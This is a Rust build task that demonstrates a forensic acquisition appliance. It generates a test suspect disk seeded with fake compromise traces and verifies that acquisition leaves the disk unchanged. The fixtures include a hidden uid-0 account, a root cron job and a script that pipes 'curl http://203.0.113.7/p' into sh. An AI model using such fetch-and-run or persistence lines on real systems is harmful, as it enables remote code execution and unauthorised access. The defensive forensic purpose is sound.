//! `cargo xtask demo`: the main job, end to end, on a generated suspect VM.
//!
//! 1. builds the appliance (kernel + initramfs from pinned Debian packages, static vestige);
//! 2. generates a suspect VM disk: GPT with a Linux root (ext4, planted activity: a uid-0
//!    account, a cron job, an SSH key, a brute-force trail in auth.log, a deleted file) and
//!    a Windows NTFS volume (mkntfs, a file copied in with ntfscp);
//! 3. boots the appliance in QEMU against it, the suspect disk attached read-only, with an
//!    evidence disk; the appliance acquires unattended and powers off by itself;
//! 4. on the host: reads the case off the evidence disk (debugfs, no mount), verifies it with
//!    vestige and with stock signify-openbsd, and proves the suspect disk was not written.

use crate::host::{cargo, ensure_packages, output, root, run, step};
use anyhow::{bail, Context, Result};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;
use vestige_qemu_tests::disk::make_evidence_disk;
use vestige_qemu_tests::evidence::extract_ext4;
use vestige_qemu_tests::vm::{Accel, Boot, Bus, Drive};

const DEMO_TOOLS: &[(&str, &str)] = &[
    ("zstd", "zstd"),
    ("signify-openbsd", "signify-openbsd"),
    ("sgdisk", "gdisk"),
    ("mkfs.ext4", "e2fsprogs"),
    ("debugfs", "e2fsprogs"),
    ("mkntfs", "ntfs-3g"),
    ("ntfscp", "ntfs-3g"),
];

const CASE_ID: &str = "DEMO-2026-001";
const SUSPECT_MIB: u64 = 128;
/// Partition 1 (Linux root) and 2 (NTFS), in MiB.
const LINUX_MIB: u64 = 80;
const NTFS_MIB: u64 = 40;

fn sha256(path: &Path) -> Result<String> {
    let out = output(Command::new("sha256sum").arg(path))?;
    Ok(out
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_string())
}

fn write(root: &Path, rel: &str, text: &str) -> Result<()> {
    let p = root.join(rel);
    if let Some(d) = p.parent() {
        std::fs::create_dir_all(d)?;
    }
    std::fs::write(&p, text).with_context(|| format!("writing {}", p.display()))
}

/// The suspect's Linux root, with the traces an examiner should find.
fn linux_root(dir: &Path) -> Result<PathBuf> {
    let r = dir.join("suspect-root");
    let _ = std::fs::remove_dir_all(&r);
    write(&r, "etc/hostname", "web-01\n")?;
    write(
        &r,
        "etc/os-release",
        "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\nVERSION_ID=\"12\"\n",
    )?;
    write(
        &r,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n\
         alice:x:1000:1000:Alice:/home/alice:/bin/bash\nbackup2:x:0:0::/var/tmp/.b:/bin/bash\n",
    )?;
    write(
        &r,
        "etc/cron.d/update",
        "*/5 * * * * root /tmp/.x/update.sh >/dev/null 2>&1\n",
    )?;
    write(
        &r,
        "tmp/.x/update.sh",
        "#!/bin/sh\ncurl -s http://203.0.113.7/p | sh\n",
    )?;
    write(
        &r,
        "home/alice/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoOnlyNotARealKey mallory@attacker\n",
    )?;
    let mut auth = String::new();
    for i in 0..40 {
        auth.push_str(&format!(
            "Nov 20 03:{:02}:{:02} web-01 sshd[{}]: Failed password for root from 198.51.100.23 port {} ssh2\n",
            i / 6 + 10,
            (i * 7) % 60,
            4000 + i,
            50000 + i
        ));
    }
    auth.push_str("Nov 20 03:17:44 web-01 sshd[4100]: Accepted password for root from 198.51.100.23 port 50999 ssh2\n");
    write(&r, "var/log/auth.log", &auth)?;
    write(
        &r,
        "root/exfil.tar.txt",
        &"customer,card,expiry\n".repeat(3000),
    )?;
    Ok(r)
}

/// Builds the suspect VM disk: GPT, p1 ext4 Linux root (one file then deleted), p2 NTFS.
fn make_suspect(dir: &Path) -> Result<PathBuf> {
    let disk = dir.join("suspect-vm.raw");
    let _ = std::fs::remove_file(&disk);
    run(Command::new("truncate")
        .arg("-s")
        .arg(format!("{SUSPECT_MIB}M"))
        .arg(&disk))?;
    let root = linux_root(dir)?;
    run(Command::new("mkfs.ext4")
        .args([
            "-q",
            "-F",
            "-L",
            "root",
            "-U",
            "5e1f0000-0000-4000-8000-00000000d1d0",
        ])
        .args(["-E", "offset=1048576", "-d"])
        .arg(&root)
        .arg(&disk)
        .arg(format!("{LINUX_MIB}M")))?;
    // The suspect covers their tracks: the exfiltration archive is deleted.
    run(Command::new("debugfs")
        .args(["-w", "-R", "rm /root/exfil.tar.txt"])
        .arg(format!("{}?offset=1048576", disk.display()))
        .stderr(Stdio::null()))?;
    // The Windows volume, made in its own file and copied into partition 2.
    let ntfs = dir.join("ntfs.part");
    let _ = std::fs::remove_file(&ntfs);
    run(Command::new("truncate")
        .arg("-s")
        .arg(format!("{NTFS_MIB}M"))
        .arg(&ntfs))?;
    let p2_start_sectors = (1 + LINUX_MIB) * 2048;
    run(Command::new("mkntfs")
        .args(["-F", "-Q", "-q", "-L", "Windows", "-p"])
        .arg(p2_start_sectors.to_string())
        .arg(&ntfs)
        .stdout(Stdio::null()))?;
    let note = dir.join("ransom-note.txt");
    std::fs::write(
        &note,
        "Your files are encrypted. Contact decrypt@example.invalid\n",
    )?;
    run(Command::new("ntfscp")
        .arg("-f")
        .arg(&ntfs)
        .arg(&note)
        .arg("README-DECRYPT.txt")
        .stdout(Stdio::null()))?;
    run(Command::new("dd")
        .arg(format!("if={}", ntfs.display()))
        .arg(format!("of={}", disk.display()))
        .args(["bs=1M", "conv=notrunc,fsync", "status=none"])
        .arg(format!("seek={}", 1 + LINUX_MIB)))?;
    run(Command::new("sgdisk")
        .arg("-o")
        .args([
            "-n",
            &format!("1:2048:+{LINUX_MIB}M"),
            "-t",
            "1:8300",
            "-c",
            "1:linux-root",
        ])
        .args([
            "-n",
            &format!("2:{p2_start_sectors}:+{NTFS_MIB}M"),
            "-t",
            "2:0700",
            "-c",
            "2:windows-data",
        ])
        .arg(&disk)
        .stdout(Stdio::null()))?;
    std::fs::remove_dir_all(&root)?;
    std::fs::remove_file(&ntfs)?;
    std::fs::remove_file(&note)?;
    Ok(disk)
}

fn run_demo() -> Result<()> {
    ensure_packages(DEMO_TOOLS)?;
    crate::qemu::ensure_qemu()?;
    step("building the appliance (cargo xtask appliance)");
    let appliance = crate::appliance::build()?;
    step("building the host's vestige (release)");
    run(cargo().args(["build", "--release", "--quiet", "-p", "vestige-cli"]))?;
    let vestige = root().join("target/release/vestige");
    let work = root().join("target/demo");
    let _ = std::fs::remove_dir_all(&work);
    std::fs::create_dir_all(&work)?;

    step("generating the suspect VM disk (GPT: Linux root with planted activity + NTFS volume)");
    let suspect = make_suspect(&work)?;
    let before = sha256(&suspect)?;
    eprintln!("suspect disk {} SHA-256 {before}", suspect.display());
    let evidence = make_evidence_disk(&work, "evidence.raw", 512)?;

    step("booting the appliance in QEMU: unattended acquisition, then power off");
    let boot = Boot {
        kernel: appliance.join("vmlinuz"),
        initrd: appliance.join("initramfs.img"),
        cmdline: format!(
            "console=ttyS0 panic=-1 vestige.run=acquire vestige.targets=all \
             vestige.case={CASE_ID} vestige.examiner=\"Demo Examiner\""
        ),
        drives: vec![
            Drive {
                path: suspect.clone(),
                bus: Bus::Virtio,
                read_only: true,
                blkdebug: None,
            },
            Drive {
                path: evidence.path.clone(),
                bus: Bus::Virtio,
                read_only: false,
                blkdebug: None,
            },
        ],
        memory_mib: 1024,
        cpus: 2,
        timeout: Duration::from_secs(600),
        accel: Accel::detect(),
    };
    let console = work.join("console.log");
    let outcome = boot.run(&console)?;
    for l in &outcome.console {
        if l.text.contains("vestige-init")
            || l.text.contains("fingerprint")
            || l.text.contains("SHA256:")
        {
            eprintln!("  | {}", l.text);
        }
    }
    if !outcome.powered_off() {
        bail!(
            "the appliance did not power off by itself:\n{}",
            outcome.tail(30)
        );
    }
    eprintln!(
        "QEMU ran {:.1} s ({:?})",
        outcome.elapsed.as_secs_f64(),
        outcome.accel
    );

    step("reading the case off the evidence disk (debugfs, nothing mounted)");
    let out = work.join("evidence");
    extract_ext4(&evidence.path, evidence.partition_offset_bytes, &out)?;
    let case = out.join(CASE_ID);
    let item = case.join("vda");

    step("vestige verify (host)");
    run(Command::new(&vestige).arg("verify").arg(&case))?;
    step("stock signify-openbsd -C");
    let key = std::fs::read_dir(case.join("keys"))?
        .flatten()
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|e| e == "pub"))
        .context("no public key in the case")?;
    run(Command::new("signify-openbsd")
        .args(["-C", "-p"])
        .arg(&key)
        .args(["-x", "SHA256.sig"])
        .current_dir(&item))?;
    let restored = output(Command::new("sh").arg("-c").arg(format!(
        "zstd -dc '{}' | sha256sum",
        item.join("image.zst").display()
    )))?;
    let restored = restored
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_string();

    let after = sha256(&suspect)?;
    step("result");
    eprintln!("suspect before : {before}");
    eprintln!("suspect after  : {after}");
    eprintln!("zstd -d        : {restored}");
    if before != after {
        bail!("the suspect disk changed");
    }
    if restored != before {
        bail!("the evidence does not restore the suspect disk");
    }
    eprintln!("\nall equal: the appliance never wrote the suspect disk, and its evidence restores it bit for bit.");
    eprintln!(
        "case (read back from the evidence disk): {}",
        case.display()
    );
    eprintln!("  item     : {}", item.display());
    eprintln!("  console  : {}", case.join("console.log").display());
    eprintln!("  custody  : {}", case.join("custody.jsonl").display());
    eprintln!("  QEMU log : {}", console.display());
    eprintln!("(offline analysis and its report are not built yet)");
    Ok(())
}

/// Entry point.
pub fn task() -> Result<()> {
    run_demo().context("demo failed")
}
